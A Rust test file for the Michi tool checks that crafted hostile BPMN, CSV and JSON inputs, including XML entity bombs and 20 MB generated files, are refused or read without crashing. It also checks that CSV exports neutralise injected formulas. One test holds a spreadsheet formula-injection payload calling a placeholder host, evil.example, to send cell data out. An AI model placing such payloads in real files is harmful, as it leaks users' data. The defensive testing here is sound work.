//! Hostile files: every file under tests/data/hostile/ (crafted inputs and what the fuzzers found,
//! scripts/fuzz.sh) is read by the reader it targets and either read or refused with the error
//! expected, never a panic. Inputs too big to keep in git are written here: up to 20 MB, each read
//! by the `michi` command under a 1 GB address-space limit (RLIMIT_AS), which must end with its own
//! exit code and message, not killed or aborted. (How long each takes is `npm run bench`'s.)

use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use michi_core::{IdGen, Workspace, apply, diagnose};

fn hostile(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/hostile").join(rel)
}

/// Every file of a folder of tests/data/hostile, by name.
fn files(folder: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(hostile(folder)).unwrap().map(|e| e.unwrap().path()).collect();
    v.sort();
    v
}

fn name(p: &Path) -> String {
    p.file_name().unwrap().to_string_lossy().into_owned()
}

/// What a hostile file must give: read, or refused with an error saying this.
enum Expect {
    Read,
    Refused(&'static str),
}

/// The BPMN files: refused as expected, or read into a workspace whose geometry is all finite and
/// which diagnoses and exports.
#[test]
fn hostile_bpmn_files_are_read_or_refused_as_expected() {
    let expected = |name: &str| match name {
        "billion-laughs.bpmn" | "external-entity.bpmn" => Expect::Refused("DTD"),
        "utf16-truncated.bpmn" => Expect::Refused("malformed"),
        "mixed-encoding.bpmn" => Expect::Refused("Shift_JIS"),
        _ => Expect::Read,
    };
    let all = files("bpmn");
    assert!(all.len() >= 6, "the crafted files are there: {all:?}");
    for file in all {
        let name = name(&file);
        let read = michi_app::bpmn::read_bpmn(&file, &mut IdGen::sequential());
        match (expected(&name), read) {
            (Expect::Refused(what), Err(e)) => assert!(e.message.contains(what), "{name}: {}", e.message),
            (Expect::Refused(what), Ok(_)) => panic!("{name} was read, expected refused ({what})"),
            (Expect::Read, Err(e)) => panic!("{name} was refused: {}", e.message),
            (Expect::Read, Ok(read)) => {
                let ws = read.workspace;
                assert_finite(&ws, &name);
                let _ = diagnose::diagnosis(&ws);
                let models: Vec<_> =
                    ws.elements_of_kind(michi_core::ElementKind::ProcessModel).map(|e| e.id.clone()).collect();
                let xml = michi_bpmn::export(&ws, &models).unwrap();
                let mut again = Workspace::new();
                let back = michi_bpmn::import(xml.as_bytes(), &again, &mut IdGen::sequential(), &Default::default());
                apply(&mut again, back.unwrap_or_else(|e| panic!("{name}: Michi's export refused: {e}")).op).unwrap();
            }
        }
    }
}

/// Every placement and waypoint of every view is a finite number.
fn assert_finite(ws: &Workspace, name: &str) {
    for view in ws.views() {
        for p in view.placements.values() {
            let waypoints = p.extra.iter().flat_map(|e| e.waypoints.iter()).flat_map(|w| [w.x, w.y]);
            assert!([p.x, p.y, p.width, p.height].into_iter().chain(waypoints).all(f64::is_finite), "{name}: {p:?}");
        }
    }
}

#[test]
fn hostile_csv_files_are_read_or_refused_as_expected() {
    let expected = |name: &str| match name {
        "invalid-encoding.csv" => Expect::Refused("neither UTF-8 nor Shift_JIS"),
        _ => Expect::Read,
    };
    let ws = michi_core::sample::sample();
    let model = ws.elements_of_kind(michi_core::ElementKind::ProcessModel).next().unwrap().id.clone();
    for file in files("csv") {
        let name = name(&file);
        match (expected(&name), michi_app::tables::read_table(&file)) {
            (Expect::Refused(what), Err(e)) => assert!(e.message.contains(what), "{name}: {}", e.message),
            (Expect::Refused(what), Ok(_)) => panic!("{name} was read, expected refused ({what})"),
            (Expect::Read, Err(e)) => panic!("{name} was refused: {}", e.message),
            (Expect::Read, Ok(table)) => {
                let p = michi_csv::preview(&table);
                if let Some(m) = p.guess {
                    let _ = michi_csv::snapshot(&table, &m, &ws, &model, "x".into(), "x.csv".into(), None);
                }
            }
        }
    }
}

/// Settings and journey documents: refused, saying what is wrong (a nesting 10,000 deep stops at
/// the first level the format does not allow, or at serde_json's recursion limit).
#[test]
fn hostile_json_files_are_refused_with_what_is_wrong() {
    let expected = |name: &str| match name {
        "unknown-rule.michi-lint.json" => "no-such-rule",
        "deep.michi-lint.json" => "unknown variant `rules`",
        "deep.journey.json" => "recursion limit exceeded",
        _ => panic!("{name}: no expectation"),
    };
    for file in files("json") {
        let name = name(&file);
        let message = if name.ends_with(".michi-lint.json") {
            michi_app::lint::read_config(&file).expect_err(&name).message
        } else {
            michi_core::sample::load(&std::fs::read_to_string(&file).unwrap()).expect_err(&name).to_string()
        };
        assert!(message.contains(expected(&name)), "{name}: {message}");
    }
}

// ---- Big inputs, written here, read by the CLI under a 1 GB address-space limit ----

const GB: u64 = 1 << 30;

/// Runs `michi ARGS` with its address space limited to 1 GB.
fn michi_limited(args: &[&std::ffi::OsStr]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_michi"));
    cmd.args(args);
    // SAFETY: setrlimit is async-signal-safe; nothing else runs between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            let limit = libc::rlimit { rlim_cur: GB, rlim_max: GB };
            if libc::setrlimit(libc::RLIMIT_AS, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    cmd.output().unwrap()
}

/// The command ended by itself (exit 0, 1 for findings, or 2 for a refused file) with something
/// on stdout or stderr, not killed by a signal or aborted by the allocator.
fn ended_cleanly(what: &str, out: &Output) -> String {
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let code = out.status.code();
    assert!(matches!(code, Some(0..=2)), "{what}: exit {:?} (killed or aborted?): {stderr}", out.status);
    assert!(!stderr.contains("panicked") && !stderr.contains("memory allocation"), "{what}: {stderr}");
    stderr
}

fn big(dir: &Path, name: &str, bytes: Vec<u8>) -> PathBuf {
    assert!(bytes.len() <= 20 << 20, "{name}: {} bytes", bytes.len());
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

const HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8"?><definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">"#;

#[test]
fn twenty_megabyte_bpmn_files_are_read_or_refused_within_a_gigabyte() {
    let dir = tempfile::tempdir().unwrap();
    let mut cases: Vec<(PathBuf, Option<&str>)> = Vec::new();
    // One attribute of 19 MB.
    let huge = format!(
        "{HEAD}<process id=\"p\"><task id=\"t\" name=\"{}\"/></process></definitions>",
        "長".repeat((19 << 20) / 3)
    );
    cases.push((big(dir.path(), "huge-attribute.bpmn", huge.into_bytes()), None));
    // 200,000 attributes on one element.
    let mut many = format!("{HEAD}<process id=\"p\"><task id=\"t\"");
    for i in 0..200_000 {
        many.push_str(&format!(" a{i}=\"{i}\""));
    }
    many.push_str("/></process></definitions>");
    cases.push((big(dir.path(), "many-attributes.bpmn", many.into_bytes()), None));
    // Sub-processes nested 100,000 deep.
    let depth = 100_000;
    let mut deep = format!("{HEAD}<process id=\"p\">");
    for i in 0..depth {
        deep.push_str(&format!("<subProcess id=\"s{i}\">"));
    }
    deep.push_str(&"</subProcess>".repeat(depth));
    deep.push_str("</process></definitions>");
    cases.push((big(dir.path(), "deep.bpmn", deep.into_bytes()), Some("levels deep, deeper than the 256")));
    // 300,000 tasks and flows: past the 100,000 elements Michi imports.
    let mut wide = format!("{HEAD}<process id=\"p\">");
    for i in 0..150_000 {
        wide.push_str(&format!(
            "<task id=\"t{i}\"/><sequenceFlow id=\"f{i}\" sourceRef=\"t{i}\" targetRef=\"t{}\"/>",
            i + 1
        ));
    }
    wide.push_str("</process></definitions>");
    cases.push((big(dir.path(), "wide.bpmn", wide.into_bytes()), Some("more than 100000 BPMN elements")));
    for (file, refused) in cases {
        let out = michi_limited(&["lint".as_ref(), file.as_os_str()]);
        let stderr = ended_cleanly(&name(&file), &out);
        if let Some(what) = refused {
            assert_eq!(out.status.code(), Some(2), "{}: {stderr}", name(&file));
            assert!(stderr.contains(what), "{}: {stderr}", name(&file));
        } else {
            assert_ne!(out.status.code(), Some(2), "{} was refused: {stderr}", name(&file));
        }
    }
}

#[test]
fn twenty_megabyte_csv_files_are_read_or_refused_within_a_gigabyte() {
    let dir = tempfile::tempdir().unwrap();
    let ws_file = dir.path().join("ws.michi");
    let status = Command::new(env!("CARGO_BIN_EXE_michi")).args(["new", "--sample"]).arg(&ws_file).status().unwrap();
    assert!(status.success());
    // A million columns.
    let mut wide = (0..1_000_000).map(|i| format!("c{i}")).collect::<Vec<_>>().join(",");
    wide.push_str("\n1,2,3\n");
    // A cell of 19 MB.
    let cell = format!("account,nps\nA,\"{}\"\n", "x".repeat(19 << 20));
    // A million short rows.
    let mut rows = String::from("account,nps\n");
    for i in 0..1_000_000 {
        rows.push_str(&format!("a{i},{}\n", i % 10));
    }
    let cases = [
        ("wide.csv", wide, Some("more than 1000 columns")),
        ("cell.csv", cell, Some("more than 1000000 characters in one cell")),
        ("rows.csv", rows, None),
    ];
    for (n, bytes, refused) in cases {
        let file = big(dir.path(), n, bytes.into_bytes());
        let out = michi_limited(&["health".as_ref(), "--accounts".as_ref(), file.as_os_str(), ws_file.as_os_str()]);
        let stderr = ended_cleanly(n, &out);
        match refused {
            Some(what) => assert!(out.status.code() == Some(2) && stderr.contains(what), "{n}: {stderr}"),
            None => assert!(!stderr.contains("more than Michi reads"), "{n}: {stderr}"),
        }
    }
}

/// A company named like a formula in an accounts file comes out of `michi health` as text a
/// spreadsheet shows, not a formula it runs; a negative number stays a number.
#[test]
fn exported_csv_cells_cannot_run_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws.michi");
    assert!(Command::new(env!("CARGO_BIN_EXE_michi")).args(["new", "--sample"]).arg(&ws).status().unwrap().success());
    let sample = include_str!("../../michi-core/samples/accounts-2026-11.csv");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
    let accounts = dir.path().join("accounts.csv");
    std::fs::write(&accounts, sample.replacen("山田製作所", &format!("\"{}\"", evil.replace('"', "\"\"")), 1)).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_michi"))
        .args(["health", "--as-of", "2026-11-30", "--lang", "ja", "--accounts"])
        .arg(&accounts)
        .arg(&ws)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = String::from_utf8(out.stdout).unwrap();
    let row = csv.lines().find(|l| l.starts_with("C-1001")).unwrap();
    assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"詳細\"\")\""), "{row}");
    // No cell of any row begins with a formula's first character unless it is a number.
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_matches('"');
            if cell.starts_with(['=', '+', '-', '@']) {
                assert!(cell.parse::<f64>().is_ok(), "a formula cell: {cell} in {line}");
            }
        }
    }
}
